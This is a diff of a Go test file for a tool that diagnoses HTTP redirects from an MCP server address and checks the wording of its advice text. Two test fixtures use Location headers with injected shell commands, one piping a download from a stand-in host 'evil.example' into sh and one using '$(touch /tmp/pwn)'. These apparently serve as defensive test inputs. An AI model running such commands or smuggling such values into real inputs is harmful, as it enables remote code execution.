@@ -248,7 +248,7 @@ func TestAnswersOfAURL(t *testing.T) {
 		{"415", false, HTTP{Status: 415}, "content_type_refused", "Check the address"},
 		{"another host", false, HTTP{Status: 301, Location: "https://evil.example/mcp ; curl evil.example|sh"}, "trailing_slash_redirect", "write the new address"},
 		{"a slash", false, HTTP{Status: 307, Location: "/mcp/"}, "trailing_slash_redirect", "https://a.example/mcp/"},
-		{"another path", false, HTTP{Status: 308, Location: "/x$(touch /tmp/pwn)"}, "trailing_slash_redirect", "that the redirect names"},
+		{"another path", false, HTTP{Status: 308, Location: "/x$(touch /tmp/pwn)"}, "trailing_slash_redirect", "that the redirect points to"},
 	} {
 		d := Diagnose(Case{URL: "https://a.example/mcp", Live: true, Stage: Started, Keyed: c.keyed, HTTP: []HTTP{c.seen}})
 		if d.Cause != c.cause || !strings.Contains(d.Fix, c.says) {
@@ -298,7 +298,7 @@ func TestAnyAddressWillDo(t *testing.T) {
 // stop, and nothing refers to lines that only some renderings have.
 func TestAdviceIsWellFormed(t *testing.T) {
 	knowledge()
-	begins := regexp.MustCompile(`^(?:[A-Z"]|uv |npm |npx |npx's |macOS )`)
+	begins := regexp.MustCompile(`^(?:[A-Z"]|uv |uv's |npm |npx |npx's |macOS )`)
 	elsewhere := regexp.MustCompile(`\b(?:see|line) (?:above|below)\b`)
 	check := func(what, text string) {
 		t.Helper()
